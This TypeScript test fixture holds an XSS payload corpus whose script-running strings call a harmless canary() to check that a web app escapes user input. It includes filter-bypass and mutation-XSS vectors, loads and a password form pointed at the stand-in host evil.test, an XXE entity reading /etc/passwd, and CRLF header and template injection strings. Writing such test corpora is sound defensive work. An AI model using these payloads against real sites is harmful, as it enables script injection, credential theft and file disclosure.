/**
 * Words that would run, load or reshape something if one field of one screen forgot to treat them as words. Each that
 * runs calls `canary()`, which a page under test defines. Shared by the tests over HTTP and the journeys in a browser.
 */
const RTL = '\u202E'
const ZERO = '\u200B'

const tags = [
  '<script>canary(1)</script>',
  '<ScRiPt src=//evil.test/x.js></sCrIpT>',
  '<script/x>canary(2)</script\n>',
  '<<script>canary(3);//<</script>',
  '<scr<script>ipt>canary(4)</scr</script>ipt>',
  '<img src=x onerror=canary(5)>',
  '<img/src="x"/onerror="canary(6)"/>',
  '<img src=x:x onerror\u000B=canary(7)>',
  '<image href=x onerror=canary(8)>',
  '<body onload=canary(9)>',
  '<iframe src="javascript:parent.canary(10)"></iframe>',
  '<iframe srcdoc="&lt;script&gt;parent.canary(11)&lt;/script&gt;"></iframe>',
  '<object data="data:text/html,<script>canary(12)</script>"></object>',
  '<embed src="javascript:canary(13)">',
  '<base href="https://evil.test/">',
  '<link rel=stylesheet href="https://evil.test/x.css">',
  '<meta http-equiv=refresh content="0;url=https://evil.test/">',
  '<form action="https://evil.test/"><input name=password type=password autofocus onfocus=canary(14)><button>Go</button></form>',
  '<details open ontoggle=canary(15)>x</details>',
  '<video autoplay><source onerror=canary(16)></video>',
  '<audio src=x onerror=canary(17)>',
  '<marquee onstart=canary(18)>x</marquee>',
  '<isindex type=image src=1 onerror=canary(19)>',
  '<dialog open onclose=canary(20)><form method=dialog><button>x</button></form></dialog>',
  '<input type="image" formaction="javascript:canary(21)">',
]

const foreign = [
  '<svg onload=canary(22)>',
  '<svg><script>canary(23)</script></svg>',
  '<svg><animate onbegin=canary(24) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:canary(25)"><text x=20 y=20>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>canary(26)</script></svg>#x"/></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=canary(27)&gt;">',
  '<math><maction actiontype="statusline#https://evil.test" xlink:href="javascript:canary(28)">x</maction></math>',
  '<svg></p><style><a id="</style><img src=1 onerror=canary(29)>">',
]

const mutations = [
  '<noscript><p title="</noscript><img src=x onerror=canary(30)>">',
  '<p><style><!--</style><img src=x onerror=canary(31)>--></style>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=canary(32)>',
  '<template><img src=x onerror=canary(33)></template>',
  '<textarea><img title="</textarea><img src=x onerror=canary(34)>">',
  '<title></title><img src=x onerror=canary(35)>',
  '<xmp><p title="</xmp><img src=x onerror=canary(36)>">',
  '<plaintext><img src=x onerror=canary(37)>',
  '<!--><img src=x onerror=canary(38)>-->',
  '<![CDATA[><img src=x onerror=canary(39)>]]>',
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
  '<table><td><img src=x onerror=canary(40)></table><p>a<p>b</p></div></main></body></html>',
  '&lt;img src=x onerror=canary(41)&gt; &#60;script&#62;canary(42)&#60;/script&#62;',
  '&amp;lt;script&amp;gt;canary(43)&amp;lt;/script&amp;gt;',
]

const links = [
  '<a href="javascript:canary(44)">x</a>',
  '<a href="JaVaScRiPt:canary(45)">x</a>',
  '<a href=" &#14; javascript:canary(46)">x</a>',
  '<a href="java&#9;script:canary(47)">x</a>',
  '<a href="java\nscript:canary(48)">x</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:canary(49)">x</a>',
  '<a href="javascript&colon;canary(50)">x</a>',
  '<a href="data:text/html,<script>canary(51)</script>">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5jYW5hcnkoNTIpPC9zY3JpcHQ+">x</a>',
  '<a href="vbscript:canary(53)">x</a>',
  '<a href="//evil.test/" target=_top onclick=canary(54) style="position:fixed;inset:0">x</a>',
  '<a href="https://bank.test@evil.test/">https://bank.test</a>',
  '<a href="https://evil.test/" class="mention app-link column-sheet" id="app" rel="opener">x</a>',
  'javascript:canary(55)',
  'javascript://example.org/%0Acanary(56)',
  'data:text/html,<script>canary(57)</script>',
  '[x](javascript:canary(58)) ![x](x"onerror="canary(59))',
  'https://example.org/"onmouseover="canary(60)" x="',
  'https://example.org/<script>canary(61)</script>',
]

const breakers = [
  '"><img src=x onerror=canary(62)>',
  "'><img src=x onerror=canary(63)>",
  '" autofocus onfocus=canary(64) x="',
  "' onmouseover='canary(65)",
  '` onmouseover=canary(66) x=`',
  '</script><script>canary(67)</script>',
  '</title></head><body><script>canary(68)</script>',
  '"}</script><svg onload=canary(69)><script>{"',
  '","@type":"Person","image":"javascript:canary(70)","x":"',
  ']]><script>canary(71)</script><![CDATA[',
  ']]></description><script xmlns="http://www.w3.org/1999/xhtml">canary(72)</script>',
  '</style><script>canary(73)</script>',
  '<style>@import "https://evil.test/x.css"; *{display:none}</style>',
  '<p style="background:url(https://evil.test/x);width:expression(canary(74))">x</p>',
  '{{constructor.constructor("canary(75)")()}}',
  '${canary(76)} #{canary(77)} <%= canary(78) %>',
  '\r\nSet-Cookie: a=b\r\n\r\n<script>canary(79)</script>',
  '__proto__ constructor toString hasOwnProperty',
]

const letters = [
  `${RTL}gpj.exe <b>evil`,
  '\u2066\u2067\u2068\u2069\u200F\u061C <i>x',
  `<scr${ZERO}ipt>canary(80)</scr${ZERO}ipt>`,
  '\uFF1Cscript\uFF1Ecanary(81)\uFF1C/script\uFF1E',
  '\u017Fcript <\u017Fcript>canary(82)</\u017Fcript>',
  '+ADw-script+AD4-canary(83)+ADw-/script+AD4-',
  '\u2028canary(84)\u2029<script>canary(85)</script>',
  `Z${'\u0335\u0321\u0322\u0327'.repeat(20)}<u>x`,
  '\uFEFF<\u00ADscript>canary(86)</script>',
]

export const attacks: readonly string[] = [...tags, ...foreign, ...mutations, ...links, ...breakers, ...letters]

/** Those that a browser is shown on every screen: one of each way in. */
export const worst: readonly string[] = [
  '<script>canary(101)</script>',
  '<img src=x onerror=canary(102)>',
  '<svg onload=canary(103)>',
  '<a href="javascript:canary(104)">x</a>',
  '<a href="java&#9;script:canary(105)">y</a>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=canary(106)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=canary(107)>">',
  '</script><script>canary(108)</script>',
  '"><img src=x onerror=canary(109)>',
  "' autofocus onfocus='canary(110)",
  '<style>*{display:none}</style>',
  `${RTL}gpj.exe <iframe srcdoc="<script>parent.canary(111)</script>">`,
]
